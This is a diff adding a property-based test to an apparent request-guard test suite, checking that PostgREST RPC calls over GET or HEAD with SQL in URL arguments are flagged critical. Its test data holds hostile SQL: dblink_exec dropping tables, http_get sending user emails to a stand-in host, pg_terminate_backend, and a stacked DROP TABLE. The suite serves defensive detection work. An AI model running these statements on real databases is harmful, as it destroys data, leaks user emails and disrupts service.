@@ -548,6 +548,34 @@ t.test('PostgREST RPC calls that run their argument are read as PostgreSQL on an
   t.not(search.decision.approval?.risk, 'critical', 'an argument not named for SQL is not SQL');
 });
 
+t.test('PostgREST RPC called with GET or HEAD: the SQL in its URL arguments is read', async (t) => {
+  // Ninth pass: `GET …/rpc/exec_sql?query=SELECT dblink_exec('…', 'DROP TABLE users')` was an
+  // allowed read. PostgREST takes a GET's arguments from the URL and runs it READ ONLY, which stops
+  // neither dblink_exec (a new connection, its own transaction), http_get (rows sent out) nor
+  // pg_terminate_backend.
+  const urls = [`https://${SQL_HOST}/rest/v1/rpc/exec_sql`, `https://${SQL_HOST}/rpc/run_query`, 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/rpc/exec'];
+  const names = fc.constantFrom('query', 'sql', 'sql_text', 'Stmt', 'sqlQuery', 'statement');
+  const bad = fc.constantFrom(
+    (x: string) => `SELECT dblink_exec ( 'dbname=postgres' , 'DROP TABLE ${x}' )`,
+    (x: string) => `SELECT http_get ( 'https://x.example/?d=' || ( SELECT string_agg ( email , ',' ) FROM ${x} ) )`,
+    () => `SELECT pg_terminate_backend ( pid ) FROM pg_stat_activity`,
+    (x: string) => `SELECT 1 ; DROP TABLE ${x}`,
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...urls), fc.constantFrom('GET', 'HEAD'), names, bad, ident, async (url, method, name, d, x) => {
+      const full = `${url}?select=*&${name}=${encodeURIComponent(d(x))}`;
+      const { description, decision } = await decide({ method, url: full, body: '' });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${full}: ${decision.action} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 40), ...seed },
+  );
+  // Controls: a search argument, a filter and a read stay allowed GETs.
+  for (const q of ['query=red%20shoes', 'query=eq.5&select=*', `query=${encodeURIComponent('SELECT name FROM users WHERE id = 1')}`]) {
+    const { decision } = await decide({ method: 'GET', url: `${urls[2]}?${q}`, body: '' });
+    t.equal(decision.action, 'allow', `GET ?${q}`);
+  }
+});
+
 t.test('an operator nothing proves built in is a call of a function someone created, not a read', async (t) => {
   // `SELECT 1 === 1` and `OPERATOR(public.=)` call whatever function the operator names (written
   // by anyone who could create it): they were allowed as reads, and a grant for `SELECT 1` covered them.
